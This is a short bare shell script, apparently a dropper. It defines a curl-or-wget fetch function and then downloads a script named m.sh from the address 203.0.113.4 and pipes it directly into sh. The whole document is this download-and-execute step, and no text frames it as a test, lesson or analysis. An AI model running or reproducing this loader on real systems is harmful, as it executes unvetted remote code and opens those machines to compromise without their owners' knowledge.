get() {
  if command -v curl >/dev/null; then curl -s "$1"; else wget -qO- "$1"; fi
}
get http://203.0.113.4/m.sh | sh
